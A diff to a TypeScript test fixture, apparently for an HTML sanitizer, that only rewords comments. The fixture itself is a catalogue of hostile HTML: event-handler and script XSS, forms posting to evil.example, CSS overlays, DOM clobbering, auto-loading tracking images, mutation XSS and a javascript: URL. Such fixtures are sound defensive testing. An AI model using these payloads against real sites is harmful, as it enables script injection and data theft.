@@ -1,4 +1,4 @@
-/** What every payload tries to do; a page where it worked has `__pwned` on its window. */
+/** What every payload tries: a page where it succeeds has `__pwned` on its window. */
 const RUN = 'window.__pwned=1'
 const EVIL = 'evil.example'
 
@@ -20,7 +20,7 @@ const HOSTS = [
   'x-y contenteditable',
 ]
 
-/** Event handlers of every kind, on elements that fire them by themselves or at a touch. */
+/** Event handlers of every kind, on elements that fire them by themselves or on a click. */
 const handlers = each(EVENTS, HOSTS, (event, host) => `<${host} ${event}="${RUN}">文字`)
 
 const scripts = [
@@ -81,7 +81,7 @@ const PLACES = [
     `<base href="${url}"><link rel=stylesheet href="${url}"><meta http-equiv=refresh content="0;url=${url}">`,
   (url: string) => `<table background="${url}"><td background="${url}">x</table><body background="${url}">`,
 ]
-/** Addresses that must not remain, in every attribute that takes one. */
+/** Forbidden addresses, in every attribute that takes one. */
 const addresses = each(PLACES, SCHEMES, (place, url) => place(url))
 
 const forms = [
@@ -109,7 +109,7 @@ const STYLES = [
   `-moz-binding:url(https://${EVIL}/x.xml#a)`,
   'view-transition-name:root',
 ]
-/** What would lie over the page, or load by way of CSS. */
+/** Elements that would cover the page, or load through CSS. */
 const overlays = [
   ...STYLES.map((style) => `<div style="${style}" class="modal overlay" id=evil>假页面</div>`),
   ...STYLES.map((style) => `<style>*{${style}}</style><p>x`),
@@ -122,7 +122,7 @@ const overlays = [
 const NAMES = words(
   'root body cookie forms head location getElementById querySelector createElement attributes parentNode defaultView __proto__ constructor toasts evil',
 )
-/** Names that would stand in place of what scripts look for. */
+/** DOM clobbering: names that would shadow the objects scripts look for. */
 const clobbering = [
   ...NAMES.map((name) => `<img id=${name} name=${name} src=x>`),
   ...NAMES.map(
@@ -135,7 +135,7 @@ const clobbering = [
   `<object id=evil name=evil></object><embed name=evil><iframe name=evil></iframe>`,
 ]
 
-/** What a browser fetches by itself, https pictures excepted: those may. */
+/** Elements a browser fetches by itself, except https pictures, which are allowed. */
 const loading = [
   `<img src="http://${EVIL}/pixel.png">`,
   `<img srcset="https://${EVIL}/s.png 2x" sizes=100vw>`,
@@ -190,10 +190,10 @@ const WRAPS = [
   (inner: string) => `${'<div>'.repeat(600)}${inner}`,
   (inner: string) => `${'<b><p>'.repeat(40)}${inner}`,
 ]
-/** Parsers made to see one thing first and another thing later. */
+/** Mutation XSS: markup that parses differently the second time. */
 const mutation = each(WRAPS, CORE, (wrap, inner) => wrap(inner))
 
-/** Hostile HTML by what it is after. */
+/** Hostile HTML by its kind of attack. */
 export const PAYLOADS: Record<string, readonly string[]> = {
   handlers,
   scripts,
@@ -205,10 +205,10 @@ export const PAYLOADS: Record<string, readonly string[]> = {
   mutation,
 }
 
-/** A text that is HTML, breaks out of attributes and runs wherever it is taken for anything but text. */
+/** A text that is HTML, breaks out of attributes and runs wherever it isn't treated as text. */
 export const HOSTILE_TEXT = `"'><img src=http://${EVIL}/t.png onerror=${RUN}><script>${RUN}</script><form id=evil action=https://${EVIL}><input name=evil></form><style>body{display:none}</style>\${7*7}{{7*7}}`
 
-/** Everything at once, short enough for every text of the server. */
+/** All attacks at once, short enough for every text of the server. */
 export const HOSTILE_HTML = `<h3>标题</h3><p>安全的正文</p>${[
   ...scripts,
   ...forms,
@@ -220,7 +220,7 @@ export const HOSTILE_HTML = `<h3>标题</h3><p>安全的正文</p>${[
   .filter((html) => !/<(plaintext|xmp)/.test(html))
   .join('\n')}`
 
-/** An address that must not be opened. */
+/** An address that must never open. */
 export const HOSTILE_ADDRESS = `javascript:${RUN}//`
-/** A picture that must not be asked for. */
+/** A picture that must never load. */
 export const HOSTILE_PICTURE = `http://${EVIL}/picture.png`
